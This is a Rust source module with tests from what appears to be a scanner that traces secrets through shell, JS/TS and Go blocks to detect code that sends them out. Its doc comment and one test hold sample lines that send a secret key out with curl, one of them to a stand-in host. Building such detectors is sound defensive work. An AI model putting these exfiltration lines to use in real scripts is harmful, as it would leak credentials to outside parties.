//! Names a block assigns that outlive it. A function or `if`/`try` block in JS/TS, shell or Go is read
//! as one statement (its braces joined), so only its first line's assignments were followed: a key
//! read into a global name inside one function (`load() { key="$SECRET"; }`) and sent by another
//! (`report() { curl -d "k=$key" … }`) went unseen. Here the block's lines are read in order: a line
//! that reads a secret (a source on it, or a name the block or the file already follows) passes it to
//! the names it assigns; those the line does not declare (`const`/`let`/`var`, `local`/`declare`/
//! `typeset`, `:=`/`var`) outlive the block. A request's answer does not carry the key it was sent
//! with, as for statements.

use std::collections::BTreeMap;

use super::scope::ScopeLang;
use crate::scan::judge::code;

/// A name the block assigns without declaring it, what it carries, and the line it was assigned on.
pub(super) type Escaping = (String, Vec<usize>, u32);

/// Most names a block can pass out (a bound on pathological files).
const MAX_ESCAPING: usize = 32;

/// The names the block `text` (first line numbered `first`) assigns from a followed value without
/// declaring them. `sources` are the secret facts on its lines (fact, line), `sends` the lines with a
/// request, `outer` the names the file follows so far.
pub(super) fn escaping(
    lang: ScopeLang,
    text: &str,
    first: u32,
    sources: &[(usize, u32)],
    sends: &[u32],
    outer: &BTreeMap<String, Vec<usize>>,
) -> Vec<Escaping> {
    if !matches!(lang, ScopeLang::Script | ScopeLang::Shell | ScopeLang::Go) {
        return Vec::new();
    }
    let mut inside: BTreeMap<&str, Vec<usize>> = BTreeMap::new();
    let mut out: Vec<Escaping> = Vec::new();
    for (k, line) in text.split('\n').enumerate().skip(1) {
        let no = first + k as u32;
        if sends.contains(&no) {
            continue;
        }
        let mut origins: Vec<usize> = sources
            .iter()
            .filter(|(_, l)| *l == no)
            .map(|(f, _)| *f)
            .collect();
        for r in code::refs(line) {
            if let Some(list) = inside.get(r).or_else(|| outer.get(r)) {
                origins.extend(list);
            }
        }
        if origins.is_empty() {
            continue;
        }
        origins.sort_unstable();
        origins.dedup();
        let t = line.trim_start();
        for name in code::assigned(line) {
            inside.insert(name, origins.clone());
            if !lang.declares(t, name) && out.len() < MAX_ESCAPING {
                out.retain(|(n, _, _)| n != name);
                out.push((name.to_owned(), origins.clone(), no));
            }
        }
    }
    out
}

/// Whether the block `text` gives `name` a new value before anything in it reads it (`key="$B_KEY"`
/// on the first line that mentions `key`): then what `name` carried before the block does not reach
/// the block's requests.
pub(super) fn set_before_read(text: &str, name: &str) -> bool {
    for line in text.split('\n') {
        if code::refs(line).contains(&name) {
            return code::overwritten(line) == Some(name);
        }
    }
    false
}

/// Whether a statement of several lines may run its lines more than once: a loop (`for`, `while`,
/// `until`, `loop`, `.forEach(`, `.map(`), a timer or an event handler (round 43b).
pub(super) fn repeats(text: &str) -> bool {
    const WORDS: &[&str] = &[
        "for ",
        "for(",
        "while ",
        "while(",
        "until ",
        "loop ",
        "loop{",
        ".foreach(",
        ".map(",
        "setinterval(",
        "settimeout(",
        ".on(",
        "addeventlistener(",
        "goto ",
        "retry",
    ];
    let l = crate::ascii_lowered(text);
    WORDS.iter().any(|w| l.contains(w))
}

/// Whether a block holding 1-based line `sink` closes before line `later`: a line between them is
/// only a closer (`fi`, `esac`, `done`, `}`, `end`) indented no deeper than the sink's line (round
/// 43b). A call continued over several lines (`fetch(url, {` … `})`) or a here-document has no
/// such line before its own end.
pub(super) fn closed_between(lines: &[&str], sink: u32, later: u32) -> bool {
    let indent = |l: &str| l.len() - l.trim_start().len();
    let mut lines = lines
        .iter()
        .copied()
        .skip((sink as usize).saturating_sub(1));
    let Some(first) = lines.next() else {
        return false;
    };
    let depth = indent(first);
    lines
        .take(later.saturating_sub(sink + 1) as usize)
        .any(|l| {
            matches!(l.trim(), "fi" | "esac" | "done" | "}" | "};" | "end") && indent(l) <= depth
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_set_before_it_is_read() {
        assert!(set_before_read(
            "f() {\n  key=\"$B\"\n  send \"$key\"\n}",
            "key"
        ));
        assert!(!set_before_read(
            "f() {\n  send \"$key\"\n  key=\"\"\n}",
            "key"
        ));
        assert!(!set_before_read("f() {\n  key=\"$key-x\"\n}", "key"));
        assert!(!set_before_read("f() {\n  other=1\n}", "key"));
    }

    #[test]
    fn undeclared_names_escape_declared_ones_do_not() {
        let outer = BTreeMap::new();
        let text = "load() {\n  local a=\"$K\"\n  b=\"$a\"\n  c=1\n}";
        // The source (fact 7) is on line 2 (the block starts on line 1).
        let out = escaping(ScopeLang::Shell, text, 1, &[(7, 2)], &[], &outer);
        assert_eq!(out, vec![("b".to_owned(), vec![7], 3)]);
        // A request's line passes nothing on; other languages are not read this way.
        let sent = "load() {\n  b=$(curl -H \"k: $K\" https://x.example)\n}";
        assert!(escaping(ScopeLang::Shell, sent, 1, &[(7, 2)], &[2], &outer).is_empty());
        assert!(escaping(ScopeLang::Python, text, 1, &[(7, 2)], &[], &outer).is_empty());
    }
}
